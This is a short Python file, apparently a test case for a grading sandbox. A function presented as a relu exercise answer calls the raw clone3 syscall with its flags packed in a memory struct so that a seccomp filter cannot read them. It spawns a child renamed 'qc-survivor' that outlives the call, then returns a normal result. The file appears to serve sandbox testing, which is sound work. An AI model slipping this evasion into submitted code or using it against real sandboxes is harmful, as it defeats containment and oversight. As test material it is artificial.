"""Clones by a struct that a filter cannot read.

Attack: clone3 keeps its flags in memory, out of seccomp's sight.
Expect: no_point
Exercise: relu
Effect: process
"""

import ctypes
import os
import struct
import time

import numpy as np

LIBC = ctypes.CDLL(None, use_errno=True)
ARGUMENTS = struct.pack("<8Q", 0, 0, 0, 0, 17, 0, 0, 0)


def relu(z):
    pid = LIBC.syscall(435, ctypes.create_string_buffer(ARGUMENTS, 64), ctypes.c_long(64))
    if pid == 0:
        LIBC.prctl(15, b"qc-survivor", 0, 0, 0)
        time.sleep(20)
        os._exit(0)
    if pid > 0:
        return np.maximum(z, 0)
    raise RuntimeError("SAFE")
